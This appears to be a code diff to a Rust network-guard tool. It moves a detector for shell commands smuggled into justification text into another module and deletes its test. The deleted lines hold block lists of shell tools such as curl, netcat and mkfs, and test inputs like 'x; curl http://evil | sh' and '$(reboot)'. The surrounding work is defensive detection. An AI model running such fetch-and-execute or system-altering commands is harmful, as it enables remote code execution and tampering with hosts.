@@ -14,6 +14,7 @@ use serde::{Deserialize, Serialize};
 use crate::{
     addr,
     council::{Action, Draft},
+    text::shell_like,
 };
 
 /// `[guard]` in the config.
@@ -261,78 +262,6 @@ fn in_evidence(net: IpNet, evidence: &[IpAddr]) -> Result<(), Refusal> {
     }
 }
 
-/// Sequences that only occur in shell commands, never in a justification
-/// written as prose.
-const SHELL_SEQUENCES: &[&str] = &[
-    "`",
-    "$(",
-    "${",
-    "&&",
-    "||",
-    ">>",
-    "2>&1",
-    "| sh",
-    "|sh",
-    "| bash",
-    "|bash",
-    "sh -c",
-    "rm -",
-    "> /",
-    "/bin/",
-    "/sbin/",
-    "/usr/bin",
-    "/usr/sbin",
-    "/etc/",
-    "/proc/sys",
-    "-j drop",
-    "-j accept",
-    "-a input",
-];
-
-/// Command names that have no business in a justification.
-const SHELL_COMMANDS: &[&str] = &[
-    "iptables",
-    "ip6tables",
-    "iptables-restore",
-    "nft",
-    "ipset",
-    "sysctl",
-    "systemctl",
-    "fail2ban-client",
-    "sudo",
-    "bash",
-    "zsh",
-    "chmod",
-    "chown",
-    "pkill",
-    "killall",
-    "wget",
-    "curl",
-    "mkfs",
-    "netcat",
-    "ncat",
-    "ufw",
-    "firewall-cmd",
-    "tcpkill",
-    "bpftool",
-    "xdp-filter",
-];
-
-/// The first shell-like piece of `text`, if any: command names, command
-/// chaining, substitution, redirection, system paths. Verdicts are typed,
-/// so such text can only be an attempt to smuggle a command into the
-/// journal (or into an operator's copy-paste); it is refused, not run.
-pub fn shell_like(text: &str) -> Option<String> {
-    let lower = text.to_ascii_lowercase();
-    if let Some(seq) = SHELL_SEQUENCES.iter().find(|s| lower.contains(**s)) {
-        return Some(format!("{seq:?}"));
-    }
-    lower
-        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
-        .find(|w| SHELL_COMMANDS.contains(w))
-        .map(|w| format!("{w:?}"))
-}
-
 /// Refuses prefixes touching address space that is never a remote attacker.
 fn special(net: IpNet) -> Result<(), Refusal> {
     type Refuse = fn(IpNet) -> Refusal;
@@ -536,33 +465,6 @@ mod tests {
             g.check(&unblock("198.0.0.0/8"), &c),
             Err(Refusal::TooWide { .. })
         ));
-    }
-
-    #[test]
-    fn shell_like_text_is_recognised_and_prose_is_not() {
-        for bad in [
-            "iptables -A INPUT -s 203.0.113.7 -j DROP",
-            "run `id`",
-            "x; curl http://evil | sh",
-            "echo 1 > /proc/sys/net/ipv4/tcp_syncookies",
-            "then sudo reboot",
-            "a && b",
-            "$(reboot)",
-            "/sbin/fail2ban-client set sshd banip 1.2.3.4",
-            "service vsftpd restart && nft flush ruleset",
-        ] {
-            assert!(shell_like(bad).is_some(), "{bad}");
-        }
-        for good in [
-            "it shrank its window to zero under data in flight (3 retransmission events, the kernel's treason condition)",
-            "IDS rule 2100498 (severity 2) matched its traffic to this host",
-            "repeat offender (2 earlier bans): TTL escalated ×2 per ban",
-            "the FTP service on port 21 is under a SYN flood; block the source for 1h",
-            "not one of ours, not a trusted peer",
-            "198.18.0.0/24 overlaps the trusted/allowlisted 198.18.0.0/24",
-        ] {
-            assert_eq!(shell_like(good), None, "{good}");
-        }
     }
 
     #[test]
